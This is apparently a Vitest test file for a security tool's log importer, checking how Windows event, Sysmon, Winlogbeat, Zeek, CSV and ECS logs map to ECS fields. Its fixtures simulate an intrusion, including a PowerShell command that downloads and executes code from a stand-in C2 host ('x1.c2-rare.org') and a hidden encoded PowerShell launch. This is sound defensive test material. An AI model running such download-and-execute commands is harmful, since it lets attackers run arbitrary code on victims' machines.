import { fileURLToPath } from 'node:url';
import type { EcsEvent } from '@kunren/domain';
import { describe, expect, it } from 'vitest';
import { openLogFile } from '../src/import/parseLogFile.js';
import type { ParseItem } from '../src/import/ParseItem.js';

const fixture = (name: string): string =>
  fileURLToPath(new URL(`./fixtures/logs/${name}`, import.meta.url));

async function parse(name: string, format?: Parameters<typeof openLogFile>[1]) {
  const opened = await openLogFile(fixture(name), format);
  const items: ParseItem[] = [];
  for await (const item of opened.items) items.push(item);
  const events = items.flatMap((i) => (i.kind === 'event' ? [i.event] : []));
  const rejected = items.flatMap((i) =>
    i.kind === 'rejected' ? [{ line: i.line, reason: i.reason }] : [],
  );
  return { format: opened.format, events, rejected, lines: items.map((i) => i.line) };
}

const get = (e: EcsEvent, path: string): unknown =>
  path
    .split('.')
    .reduce<unknown>(
      (v, k) => (v && typeof v === 'object' ? (v as Record<string, unknown>)[k] : undefined),
      e,
    );

describe('EVTX dumps (evtx_dump, pretty JSON with Record N lines)', () => {
  it('detects the format and maps 4624, 4688 and 1102 as the Security pipeline does', async () => {
    const { format, events } = await parse('security-evtx-dump.txt');
    expect(format).toBe('evtx-json');
    const [logon, proc, cleared] = events as [EcsEvent, EcsEvent, EcsEvent];
    expect(logon).toMatchObject({
      '@timestamp': '2026-03-02T09:15:02.123Z',
      event: {
        code: '4624',
        provider: 'Microsoft-Windows-Security-Auditing',
        dataset: 'windows.security',
        category: ['authentication'],
        type: ['start'],
        action: 'logged-in',
        outcome: 'success',
      },
      host: { name: 'dc01.corp.example' },
      user: { name: 'alice', domain: 'CORP', id: 'S-1-5-21-1-2-3-1104' },
      source: { ip: '10.0.2.57', port: 49822, domain: 'WS07' },
      winlog: {
        channel: 'Security',
        event_id: '4624',
        computer_name: 'dc01.corp.example',
        record_id: '11234',
        logon: { type: 'Network', id: '0x8d2a1f' },
        event_data: { LogonType: '3', KeyLength: '128', TargetUserName: 'alice' },
      },
    });
    expect(proc).toMatchObject({
      event: { code: '4688', category: ['process'], type: ['start'] },
      user: { name: 'alice', domain: 'CORP' },
      process: {
        pid: 6700,
        name: 'powershell.exe',
        executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        command_line: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
        args: ['powershell.exe', '-nop', '-w', 'hidden', '-enc', 'SQBFAFgA'],
        parent: { pid: 4340, name: 'WINWORD.EXE' },
      },
    });
    expect(cleared).toMatchObject({
      event: { code: '1102', action: 'audit-log-cleared', provider: 'Microsoft-Windows-Eventlog' },
      user: { name: 'Administrator', domain: 'CORP' },
      winlog: { user_data: { SubjectUserName: 'Administrator' } },
    });
  });

  it('rejects a record cut short, with the line it starts on, and keeps the next one', async () => {
    const { events, rejected } = await parse('security-evtx-dump.txt');
    expect(events.map((e) => get(e, 'winlog.record_id'))).toEqual([
      '11234',
      '11240',
      '11300',
      '11400',
    ]);
    expect(rejected).toHaveLength(1);
    expect(rejected[0]?.reason).toMatch(/not closed/);
    expect(rejected[0]?.line).toBeGreaterThan(150);
  });
});

describe('EVTX dumps, one record per line (Sysmon, xmltodict style)', () => {
  it('maps Sysmon 1 to process fields with argv, hashes and parent', async () => {
    const { format, events } = await parse('sysmon.jsonl');
    expect(format).toBe('evtx-json');
    expect(events[0]).toMatchObject({
      event: {
        code: '1',
        dataset: 'windows.sysmon_operational',
        category: ['process'],
        type: ['start'],
      },
      process: {
        pid: 6700,
        entity_id: '{a1b2c3d4-0001-0000-0000-000000000001}',
        name: 'powershell.exe',
        args_count: 4,
        hash: { sha1: 'aaaa1111', md5: 'bbbb2222', sha256: 'cccc3333' },
        pe: { original_file_name: 'PowerShell.EXE' },
        parent: { pid: 4340, name: 'WINWORD.EXE' },
        working_directory: 'C:\\Users\\alice\\',
      },
      user: { name: 'alice', domain: 'CORP', id: 'S-1-5-18' },
    });
    expect(get(events[0] as EcsEvent, 'process.args')).toEqual([
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      '-nop',
      '-c',
      "iex (New-Object Net.WebClient).DownloadString('http://x1.c2-rare.org/a')",
    ]);
    expect(get(events[0] as EcsEvent, 'winlog.event_data.Image')).toBeUndefined();
    expect(get(events[0] as EcsEvent, 'process.pe.imphash')).toBeUndefined();
  });

  it('maps Sysmon 3, 22 and 13 to network, DNS and registry fields', async () => {
    const { events } = await parse('sysmon.jsonl');
    expect(events[1]).toMatchObject({
      event: { code: '3', category: ['network'] },
      source: { ip: '10.0.2.57', port: 50114, domain: 'ws07.corp.example' },
      destination: { ip: '198.51.100.23', port: 80 },
      network: { transport: 'tcp', protocol: 'http', direction: 'egress', type: 'ipv4' },
      rule: { name: 'technique_id=T1059.001' },
    });
    expect(events[2]).toMatchObject({
      event: { code: '22' },
      dns: {
        question: {
          name: 'x1.c2-rare.org',
          registered_domain: 'c2-rare.org',
          top_level_domain: 'org',
          subdomain: 'x1',
        },
        resolved_ip: ['198.51.100.23'],
        answers: [
          { type: 'CNAME', data: 'edge.c2-rare.org' },
          { type: 'A', data: '198.51.100.23' },
        ],
      },
      network: { protocol: 'dns' },
    });
    expect(events[3]).toMatchObject({
      event: { code: '13', category: ['configuration', 'registry'] },
      registry: {
        hive: 'HKU',
        path: 'HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
        value: 'Updater',
        data: { strings: ['C:\\Users\\alice\\AppData\\Roaming\\upd.exe'], type: 'REG_SZ' },
      },
    });
  });

  it('reads xmltodict-style records (@Name attributes, Data lists) and reports what is not an event', async () => {
    const { events, rejected } = await parse('sysmon.jsonl');
    expect(events[4]).toMatchObject({
      '@timestamp': '2026-03-02T09:20:00.250Z',
      event: { code: '4625', outcome: 'failure', action: 'logon-failed' },
      user: { name: 'bob', domain: 'CORP' },
      source: { ip: '203.0.113.9', domain: 'KALI' },
      winlog: {
        logon: {
          type: 'Network',
          failure: {
            status: 'This is either due to a bad username or authentication information',
            sub_status: 'User logon with misspelled or bad password',
          },
        },
      },
    });
    expect(get(events[4] as EcsEvent, 'source.port')).toBeUndefined();
    expect(rejected).toEqual([
      { line: 6, reason: 'not a Windows event: expected {"Event":{"System":{…}}}' },
      { line: 7, reason: 'not JSON: "not json at all"' },
    ]);
  });
});

describe('Winlogbeat / Elastic Agent NDJSON', () => {
  it('normalises winlog.* and maps raw Winlogbeat 7 Security events', async () => {
    const { format, events, rejected } = await parse('winlogbeat.ndjson');
    expect(format).toBe('winlogbeat');
    expect(events[0]).toMatchObject({
      event: {
        code: '4625',
        dataset: 'windows.security',
        outcome: 'failure',
        action: 'logon-failed',
      },
      host: { name: 'dc01.corp.example' },
      user: { name: 'carol' },
      source: { ip: '203.0.113.9', port: 51000 },
      winlog: { event_id: '4625', record_id: '11260', logon: { type: 'RemoteInteractive' } },
    });
    expect(events[1]).toMatchObject({
      event: { code: '3', dataset: 'windows.sysmon_operational' },
      host: { name: 'ws07' },
      process: { name: 'rundll32.exe' },
    });
    expect(events[2]?.['@timestamp']).toBe('2026-03-02T09:23:00.000Z');
    expect(rejected).toEqual([{ line: 4, reason: 'no @timestamp' }]);
  });
});

describe('Zeek logs', () => {
  it('reads TSV conn.log by its #fields and #types, and rejects a short line', async () => {
    const { format, events, rejected } = await parse('conn.log');
    expect(format).toBe('zeek');
    expect(events).toHaveLength(3);
    expect(events[0]).toMatchObject({
      '@timestamp': '2026-03-02T09:15:41.000Z',
      event: {
        dataset: 'zeek.connection',
        id: 'CAbc123xyz',
        category: ['network'],
        type: ['connection', 'start', 'end'],
        duration: 1250000000,
      },
      source: { ip: '10.0.2.57', port: 50114, bytes: 944, packets: 12 },
      destination: { ip: '198.51.100.23', port: 80, bytes: 50291, packets: 40 },
      network: {
        transport: 'tcp',
        protocol: 'http',
        bytes: 51235,
        packets: 52,
        direction: 'outbound',
      },
      zeek: {
        session_id: 'CAbc123xyz',
        connection: { state: 'SF', history: 'ShADadFf', local_orig: true },
      },
    });
    expect(get(events[1] as EcsEvent, 'network.protocol')).toBeUndefined();
    expect(get(events[2] as EcsEvent, 'network.direction')).toBe('internal');
    expect(rejected).toEqual([
      { line: 11, reason: 'Zeek TSV line has 4 columns, #fields names 21' },
    ]);
  });

  it('reads JSON dns.log (epoch and ISO ts) with answers, TTLs and registered domain', async () => {
    const { events, rejected } = await parse('dns.log');
    expect(events[0]).toMatchObject({
      event: { dataset: 'zeek.dns', duration: 2100000, outcome: 'success' },
      dns: {
        id: '4711',
        question: {
          name: 'x1.c2-rare.org',
          type: 'A',
          class: 'IN',
          registered_domain: 'c2-rare.org',
        },
        response_code: 'NOERROR',
        header_flags: ['RD', 'RA'],
        answers: [
          { data: 'edge.c2-rare.org', ttl: 300 },
          { data: '198.51.100.23', ttl: 60 },
        ],
        resolved_ip: ['198.51.100.23'],
        type: 'answer',
      },
      network: { transport: 'udp', protocol: 'dns' },
    });
    expect(events[1]).toMatchObject({
      '@timestamp': '2026-03-02T09:15:41.100Z',
      dns: {
        question: { registered_domain: 'example.co.jp', subdomain: 'www' },
        response_code: 'NXDOMAIN',
      },
    });
    expect(rejected).toEqual([{ line: 3, reason: 'Zeek record without a valid ts (null)' }]);
  });

  it('maps http, ssl, files and notice records named by _path, and others by the common fields', async () => {
    const { events } = await parse('zeek-mixed.log');
    expect(events.map((e) => get(e, 'event.dataset'))).toEqual([
      'zeek.http',
      'zeek.ssl',
      'zeek.files',
      'zeek.notice',
      'zeek.weird',
    ]);
    expect(events[0]).toMatchObject({
      http: {
        request: { method: 'GET' },
        response: { status_code: 200, body: { bytes: 48000 } },
        version: '1.1',
      },
      url: { domain: 'x1.c2-rare.org', original: '/a?id=7', path: '/a', query: 'id=7' },
      user_agent: { original: expect.stringContaining('WindowsPowerShell') },
      event: { action: 'GET', outcome: 'success', category: ['network', 'web'] },
    });
    expect(events[1]).toMatchObject({
      tls: {
        version: '1.2',
        version_protocol: 'tls',
        cipher: 'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384',
        client: { server_name: 'edge.c2-rare.org', ja3: '72a589da586844d7f0818ce684948eea' },
        established: true,
      },
      destination: { domain: 'edge.c2-rare.org' },
    });
    expect(events[2]).toMatchObject({
      file: {
        mime_type: 'text/plain',
        size: 48000,
        hash: { md5: '0f343b0931126a20f133d67c2b018a3b' },
      },
      server: { ip: '198.51.100.23' },
      client: { ip: '10.0.2.57' },
      zeek: {
        session_id: 'CAbc123xyz',
        files: { session_ids: ['CAbc123xyz'], tx_host: '198.51.100.23' },
      },
    });
    expect(events[3]).toMatchObject({
      event: { kind: 'alert', category: ['intrusion_detection'], type: ['info', 'allowed'] },
      rule: {
        name: 'HTTP::SQL_Injection_Attacker',
        description: 'An SQL injection attacker was discovered!',
      },
      network: { transport: 'tcp' },
    });
    expect(events[4]).toMatchObject({
      source: { ip: '10.0.2.57' },
      zeek: { weird: { name: 'unescaped_special_URI_char' } },
    });
  });
});

describe('CSV with ECS column names', () => {
  it('types ECS number fields, nests dotted names, and rejects bad rows by line', async () => {
    const { format, events, rejected } = await parse('events.csv');
    expect(format).toBe('csv');
    expect(events).toHaveLength(4);
    expect(events[0]).toEqual({
      '@timestamp': '2026-03-02T09:00:00.000Z',
      host: { name: 'ws01' },
      user: { name: 'alice' },
      event: { code: '4625', dataset: 'windows.security', category: 'authentication' },
      source: { ip: '10.0.0.5', port: 51000 },
    });
    expect(events[2]).toMatchObject({ user: { name: 'Smith, Bob' }, process: { name: 'cmd.exe' } });
    expect(get(events[3] as EcsEvent, 'source.port')).toBe('443x');
    expect(rejected).toEqual([
      { line: 5, reason: '@timestamp "not-a-time" is not an ISO 8601 time' },
      { line: 7, reason: expect.stringMatching(/^CSV TooManyFields/) },
    ]);
  });
});

describe('ECS NDJSON', () => {
  it('keeps documents as they are, unwraps Elasticsearch hits, and reports every bad line', async () => {
    const { format, events, rejected } = await parse('ecs.ndjson');
    expect(format).toBe('ndjson');
    expect(events.map((e) => e['@timestamp'])).toEqual([
      '2026-03-02T09:00:00.000Z',
      '2026-03-02T08:00:00.000Z',
      '2026-03-02T09:06:00.000Z',
    ]);
    expect(rejected.map((r) => r.line)).toEqual([4, 5, 6]);
    expect(rejected[0]?.reason).toBe('no @timestamp');
    expect(rejected[1]?.reason).toMatch(/^invalid JSON/);
    expect(rejected[2]?.reason).toBe('not a JSON object');
  });

  it('--format overrides detection', async () => {
    const { format, events, rejected } = await parse('ecs.ndjson', { format: 'winlogbeat' });
    expect(format).toBe('winlogbeat');
    expect(events).toHaveLength(3);
    expect(rejected).toHaveLength(3);
  });
});
